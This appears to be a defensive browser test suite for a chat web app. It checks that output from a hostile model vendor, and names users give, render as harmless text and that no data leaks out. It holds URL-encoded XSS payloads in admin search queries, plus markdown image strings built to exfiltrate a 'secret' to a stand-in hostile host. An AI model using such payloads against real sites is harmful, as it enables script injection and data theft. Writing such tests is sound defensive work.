"""S-30, S-32: an attacker for a vendor, and people with strange taste in names.

hostile vendor ─▶ socket, database, chat, history, search, credentials, admin, export
"""

from __future__ import annotations

import pytest

from tests.e2e.attacked import (
    ANSWERED,
    SAMPLE,
    ask,
    credential_id,
    draw,
    open_chat,
    quiet,
    safe_links,
)
from tests.e2e.hostile import Hostile
from tests.e2e.leaks import leaks
from tests.e2e.started import Started
from tests.e2e.watched import Watched

HELD = """() => {
  const [question, answer] = [...document.querySelectorAll("#messages > li")];
  const words = (query) => [...answer.querySelectorAll(query)].map((found) => found.textContent);
  return {
    question: question.message.text, answer: answer.message.text,
    title: document.getElementById("title").textContent,
    tool: words(".tool__name")[0], sources: words(".sources a"),
  };
}"""


def test_a_hostile_answer_is_harmless_everywhere(
    watched: Watched, hostile: Hostile, attacked: Started
) -> None:
    page = open_chat(watched)
    for payload in SAMPLE:
        words = payload.text
        # As the address of a source, what is no web address is not made a link.
        url = words if payload.kind == "link" else "https://a.example/"
        hostile.say(
            text=words,
            reasoning=words,
            tool=(words, {words: words}),
            citation=(url, words),
        )
        ask(page, words)
        held = page.evaluate(HELD)
        assert held["question"] == held["answer"] == words
        assert squeezed(words).startswith(squeezed(held["title"]).rstrip("…"))
        assert held["tool"] == words.strip()
        assert held["sources"] == ([words] if url == "https://a.example/" else [])
        safe_links(page)
        page.click("[data-new-chat]")
    watched.check()
    rows = page.locator(".conversation__link").all()
    for row in rows[:5]:  # from the database
        row.click()
        page.wait_for_function(ANSWERED)
        safe_links(page)
    page.fill("#search", "<")
    page.wait_for_timeout(600)
    assert page.locator(".conversation__link").count() > 0
    watched.check()
    check_exports(watched, attacked)


def squeezed(text: str) -> str:
    """Without white space: a title is one line, and is cut."""
    return "".join(text.split())


def check_exports(watched: Watched, attacked: Started) -> None:
    """A file, never a page: what is in it cannot be rendered on our origin."""
    page = watched.page
    path = page.locator(".conversation__link").first.get_attribute("href")
    for kind in ("md", "json"):
        answer = page.request.get(f"{attacked.url}{path}export.{kind}")
        assert answer.ok
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]


def test_a_hostile_error_is_words(watched: Watched, hostile: Hostile) -> None:
    page = open_chat(watched)
    for payload in SAMPLE[::4]:
        for name in ("refusal", "failing"):
            hostile.say(text="so far", **{name: payload.text})
            ask(page, "Why?")
            assert page.locator(".trouble").is_visible()
            page.click("[data-new-chat]")
    watched.check()
    page.goto("/credentials/")
    page.wait_for_selector(".card")
    watched.check()


def test_hostile_model_names_are_words(watched: Watched, hostile: Hostile) -> None:
    hostile.models = [payload.text for payload in SAMPLE if "\x00" not in payload.text]
    page = open_chat(watched)
    page.request.get(f"/api/credentials/{credential_id(page)}/models/?fresh=1")
    page.reload()
    page.click("#picker")
    page.wait_for_selector(".models__item")
    assert page.locator(".models__item").count() > 30
    page.locator(".models__item", has_text="<svg").first.click()
    ask(page, "Who are you?")
    assert "<svg" in page.locator(".message__head").last.inner_text()
    watched.check()
    page.reload()
    page.wait_for_function(ANSWERED)
    watched.check()


def test_titles_and_names_that_people_give_are_words(watched: Watched) -> None:
    page = open_chat(watched)
    ask(page, "Something to rename")
    for payload in SAMPLE[::4]:
        page.locator("[data-menu]").first.click()
        page.locator(".menu__item").first.click()
        page.fill("#ask-input", payload.text)
        page.click("#ask-ok")
        page.wait_for_timeout(80)
    page.reload()
    page.wait_for_function(ANSWERED)
    watched.check()
    page.goto("/credentials/")
    page.wait_for_selector(".card")
    page.select_option("#provider", "custom")
    for payload in SAMPLE[::4]:
        page.fill("#name", payload.text[:60])
        page.fill("#base_url", "http://127.0.0.1:9/v1")
        page.click("#add-form button[type=submit]")
        page.wait_for_selector("#add-result .notice--error")
    assert page.locator(".card").count() == 1
    watched.check()


def test_team_names_are_words_in_the_admin_and_on_the_page(watched: Watched) -> None:
    page = watched.page
    for number, payload in enumerate(SAMPLE[::8]):
        page.goto("/admin/sessions_app/team/add/")
        page.fill("#id_name", f"{number}{payload.text}"[:60])
        page.select_option("select[name$='-0-user']", index=1)
        page.click("input[name=_save]")
        page.wait_for_selector(".messagelist, .errornote")
        quiet(watched)
    for path in (
        "/admin/sessions_app/team/",
        "/admin/sessions_app/team/?q=%3Cimg+src%3Dx+onerror%3D__xss(1)%3E",
        "/admin/sessions_app/savedauthentication/",
        "/admin/sessions_app/savedauthentication/?q=%22%3E%3Csvg+onload%3D__xss(1)%3E",
    ):
        page.goto(path)
        quiet(watched)
    page.goto("/credentials/")
    page.wait_for_selector(".card")
    watched.check()


def test_no_leak_leaves_the_page(watched: Watched, hostile: Hostile) -> None:
    page = open_chat(watched)
    texts = leaks(hostile.url)
    assert draw(page, texts, is_streamed=True) == []
    for text in texts:
        hostile.say(text=text, reasoning=text)
        ask(page, "Show me a picture")
        page.locator(".reasoning summary").click()
        page.click("[data-new-chat]")
    page.wait_for_timeout(300)
    watched.check()
    assert hostile.leaked == []


@pytest.mark.parametrize(
    "text", ["![a cat]({0})", "![a cat][1]\n\n[1]: {0}", "> 1. ![a cat](<{0}> 't')"]
)
def test_a_remote_image_is_a_link_that_shows_its_whole_address(
    text: str, watched: Watched, hostile: Hostile
) -> None:
    page = open_chat(watched)
    url = f"{hostile.url}/cat.png?d=secret&e=" + "x" * 300
    hostile.say(text=text.replace("{0}", url))
    ask(page, "A cat")
    link = page.locator(".prose a")
    assert link.get_attribute("href") == url
    assert url in link.inner_text()
    assert page.locator(".prose img").count() == 0
    assert hostile.leaked == []
    watched.check()
